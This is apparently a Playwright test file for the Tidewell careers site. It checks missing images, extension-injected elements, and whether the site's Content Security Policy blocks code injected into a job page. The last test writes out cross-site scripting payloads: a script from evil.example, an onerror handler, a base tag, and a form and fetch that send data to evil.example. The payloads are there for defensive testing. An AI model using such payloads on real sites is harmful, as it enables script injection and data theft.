import { startRuntimeSite } from '../../browser/runtime/runtime-site.js'
import { findErrors } from '../../helpers/browser/browser.js'
import { useSite, useTab } from '../../helpers/browser/use-site.js'
import { followLink, open, shown, untilAt, untilHydrated } from '../../helpers/browser/visitor.js'

/* What others do to a page: an image host that is gone, and code that somebody got into it. */

const JOB = '/qa-engineer/1001'

const { site, browser } = useSite(startRuntimeSite)
const tab = useTab(browser, { withoutWorkers: true })

test.each(['is gone', 'never answers'])(
  'with an image host that %s a page is read and left, and says in words what its pictures show',
  async (kind) => {
    const { page } = tab()
    let asked = 0
    await page.route(`${site().content.url}/images/**`, (route) => {
      asked++
      if (kind === 'is gone') void route.abort()
    })
    await page.goto(`${site().origin}/about-tidewell`, { waitUntil: 'commit' })
    await untilHydrated(page)
    expect(asked).toBeGreaterThan(0)
    expect((await shown(page)).h1).not.toBe('')
    expect(await page.locator('main img:not([alt])').count()).toBe(0)
    if (kind === 'is gone') {
      const photo = page.locator('.office-photo').first()
      await photo.scrollIntoViewIfNeeded()
      // Nothing is seen of a picture that has nothing to say.
      await photo.waitFor({ state: 'hidden' })
    }
    const logos = page.locator('img.site-logo')
    expect(await logos.evaluateAll((all) => all.map((logo) => logo.getAttribute('alt')))).toEqual([
      'Tidewell careers',
      'Tidewell',
    ])
    await followLink(page, '/')
    await untilAt(page, '/')
    expect(findErrors(tab())).toEqual([])
  },
)

test('a page into which an extension has put elements before it is hydrated is searched and left', async () => {
  const { page } = tab()
  await page.addInitScript(() =>
    document.addEventListener('DOMContentLoaded', () => {
      const root = document.getElementById('root')
      for (const parent of [root, document.body, root?.querySelector('main')])
        parent?.prepend(document.createElement('grammarly-desktop-integration'))
      document.body.setAttribute('cz-shortcut-listen', 'true')
      for (const field of document.querySelectorAll('input')) field.dataset['lpignore'] = 'true'
    }),
  )
  let loads = 0
  page.on('domcontentloaded', () => (loads += 1))
  await open(page, site().origin)
  await page.getByRole('checkbox', { name: /^Engineering/ }).click()
  await page.locator('.result-status', { hasText: /^11 of 43 roles$/ }).waitFor()
  await followLink(page, '/qa-engineer/1001')
  await untilAt(page, '/qa-engineer/1001')
  await page.goBack()
  await untilAt(page, '/?department=engineering')
  expect(loads).toBe(1)
  expect(findErrors(tab()).filter((said) => said.startsWith('uncaught'))).toEqual([])
})

/** As it would stand in a page's HTML; each is refused by a directive of the policy. */
const INJECTED = `<script>window.injected = true</script>
<script src="https://evil.example/x.js"></script>
<img src="data:," onerror="window.injected = true">
<base href="https://evil.example/">
<form id="stolen" action="https://evil.example/" method="post"></form>`
const DIRECTIVES = ['base-uri', 'connect-src', 'form-action', 'script-src-attr', 'script-src-elem']

test('code that somebody got into a page is not run, and nothing is sent to them', async () => {
  const { page } = tab()
  const sent: string[] = []
  await page.route('**://evil.example/**', (route) => {
    sent.push(route.request().url())
    return route.fulfill({ body: 'window.injected = true', contentType: 'text/javascript' })
  })
  await page.route(site().origin + JOB, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${INJECTED}</body>`)
    await route.fulfill({ response, body })
  })
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.push(effectiveDirective),
    )
  })
  await open(page, site().origin + JOB)
  await page.evaluate(async () => {
    document.querySelector<HTMLFormElement>('#stolen')?.submit()
    await fetch('https://evil.example/?stolen').catch(() => {})
  })
  const readRefused = () =>
    page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)].sort())
  while ((await readRefused()).length < DIRECTIVES.length)
    await page.evaluate(() => new Promise(requestAnimationFrame))
  expect(await readRefused()).toEqual(DIRECTIVES)
  expect(await page.evaluate(() => 'injected' in window)).toBe(false)
  expect(sent).toEqual([])
})
